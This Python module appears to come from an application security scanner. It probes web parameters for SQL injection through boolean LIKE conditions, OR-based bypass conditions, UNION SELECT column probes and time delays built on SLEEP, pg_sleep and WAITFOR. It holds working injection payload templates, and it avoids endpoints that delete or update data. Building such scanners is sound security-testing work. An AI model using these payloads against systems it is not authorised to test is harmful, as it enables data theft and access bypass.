"""SQL injection that shows in what is answered: by conditions that hold or do not, rows, or waits."""

import re
from collections.abc import Iterator

from threatweaver_appsec.engine.agent import About, Agent, Attempt, Nonce, PointAgent, Safety, Severity, Sight
from threatweaver_appsec.engine.agents.attacks import Lead, in_request, numeric, prints, text_of
from threatweaver_appsec.engine.agents.compare import features
from threatweaver_appsec.engine.agents.conditions import condition, conditions, look
from threatweaver_appsec.engine.agents.delays import Delay, waits
from threatweaver_appsec.engine.messages import Exchange
from threatweaver_appsec.engine.points import Point

# LIKE is SQL's alone: neither XPath nor a programming language has it. The broken ones say the same without
# the way out of the string, or with one from where none is: a firewall sees the same, a database no SQL.
NUMBER = condition("{v} AND '{a}' LIKE '{b}'", "{v}' AND '{a}' LIKE '{b}'")
SINGLE = condition("{v}' AND '{a}' LIKE '{b}", "{v} AND '{a}' LIKE '{b}")
DOUBLE = condition('{v}" AND "{a}" LIKE "{b}', '{v} AND "{a}" LIKE "{b}')
PATTERN = condition("{v}%' AND '{a}' LIKE '{b}", "{v}% AND '{a}' LIKE '{b}")
COMMENTED = condition("{v}'/**/AND/**/'{a}'/**/LIKE/**/'{b}", "{v}/**/AND/**/'{a}'/**/LIKE/**/'{b}")
OR_NUMBER = condition("-1 OR '{a}' LIKE '{b}'", "-1' OR '{a}' LIKE '{b}'")
OR_SINGLE = condition("{v}' OR '{a}' LIKE '{b}", "{v} OR '{a}' LIKE '{b}")
OR_DOUBLE = condition('{v}" OR "{a}" LIKE "{b}', '{v} OR "{a}" LIKE "{b}')
OR_LAST = condition("{v}' OR '{a}' LIKE '{b}'-- ", "{v} OR '{a}' LIKE '{b}'-- ")
SAYS = "The answer follows a condition in SQL that the value states."

# {s} is the seconds. Each works as a number and between quotes.
SLEEP = "(SELECT(0)FROM(SELECT(SLEEP({s})))v)"
WAITS = (
    ("MySQL", f"{SLEEP}/*'+{SLEEP}+'\"+{SLEEP}+\"*/"),
    ("PostgreSQL", "{v}'||(SELECT '' FROM pg_sleep({s}))||'"),
    ("PostgreSQL", "{v};SELECT pg_sleep({s})-- ';SELECT pg_sleep({s})-- "),
    ("SQL Server", "{v} WAITFOR DELAY '0:0:{s}'-- ' WAITFOR DELAY '0:0:{s}'-- "),
)
MOST_COLUMNS = 8
REMOVES = re.compile(r"del|remov|drop|clear|purge|reset|update|edit|cancel|revoke", re.IGNORECASE)


def _narrowing(point: Point, baseline: Exchange, nonce: Nonce) -> Iterator[Attempt]:
    del baseline
    numbers = (NUMBER,) if numeric(point) or not text_of(point) else ()
    kinds = (*numbers, SINGLE, DOUBLE, *(() if numeric(point) else (PATTERN,)), COMMENTED)
    matters, attempt = look(point, nonce)
    yield attempt
    yield from conditions(point, nonce, kinds, SAYS, matters, narrows=True)


def _widening(point: Point, baseline: Exchange, nonce: Nonce) -> Iterator[Attempt]:
    del baseline
    kinds = (OR_SINGLE, OR_NUMBER, OR_DOUBLE, OR_LAST)
    matters, attempt = look(point, nonce)
    yield attempt
    yield from conditions(point, nonce, kinds, SAYS, matters, narrows=False)


def _delayed(shape: str, value: str) -> Delay:
    return lambda seconds: shape.format(v=value, s=f"{seconds:g}")


def _waiting(point: Point, baseline: Exchange, nonce: Nonce) -> Iterator[Attempt]:
    del baseline
    value = text_of(point, "1")
    for database, shape in WAITS:
        yield from waits(
            _delayed(shape, value),
            nonce,
            f"{database} waits as long as the value tells it to.",
        )


def _uniting(point: Point, baseline: Exchange, nonce: Nonce) -> Iterator[Attempt]:
    """Rows of our own: what they show is worked out by the database."""
    del baseline, point
    lead, word = Lead(), nonce.word(7)

    def quoted_otherwise(sight: Sight) -> set[str]:
        plain, quoted, odd = (features(one, f"{word}'", f"{word}''", word) for one in sight.exchanges)
        return {"quote"} if quoted != plain or odd != plain else set()

    yield lead.learn((word, f"{word}'", f"{word}''"), quoted_otherwise)
    for columns in range(1, MOST_COLUMNS + 1):
        one, two = nonce.number(10_000, 99_999), nonce.number(10_000, 99_999)
        row, broken = (",".join([f"{one}{sign}{two}"] * columns) for sign in ("*", "*/"))
        shows = prints(
            str(one * two), f"The database worked out a row of {columns} columns that the value states."
        )
        shape = "-1 UNION ALL SELECT {0}-- ' UNION ALL SELECT {0}-- "
        yield lead.only("quote", Attempt((shape.format(row),), shows, (shape.format(broken),)))


def _keeps(point: Point, baseline: Exchange) -> bool:
    """A condition that widens what is deleted or changed would do harm: such operations are left out."""
    request = baseline.request
    gentle = request.method in ("GET", "HEAD", "POST") and not REMOVES.search(request.parts.path)
    return gentle and in_request(point, baseline)


def _about(ident: str, title: str, safety: Safety, description: str) -> About:
    return About(
        id=ident,
        title=title,
        cwe=89,
        owasp="A03:2021",
        severity=Severity.CRITICAL,
        safety=safety,
        description=description,
        remedy="Bind values as parameters of a prepared statement; never put them into its text.",
    )


AGENTS: tuple[Agent, ...] = (
    PointAgent(
        _about(
            "sql-boolean",
            "SQL injection (blind)",
            Safety.SAFE,
            "A value becomes part of a SQL statement's text: a condition in it decides what is answered.",
        ),
        wants=in_request,
        attempts=_narrowing,
    ),
    PointAgent(
        _about(
            "sql-union",
            "SQL injection (union)",
            Safety.SAFE,
            "A value becomes part of a SQL statement's text: rows that it selects are shown.",
        ),
        wants=in_request,
        attempts=_uniting,
    ),
    PointAgent(
        _about(
            "sql-bypass",
            "SQL injection (bypass)",
            Safety.INTRUSIVE,
            "A value becomes part of a SQL statement's text: a condition in it finds what it should not.",
        ),
        wants=_keeps,
        attempts=_widening,
    ),
    PointAgent(
        _about(
            "sql-time",
            "SQL injection (time)",
            Safety.INTRUSIVE,
            "A value becomes part of a SQL statement's text: the database waits as long as it says.",
        ),
        wants=in_request,
        attempts=_waiting,
    ),
)
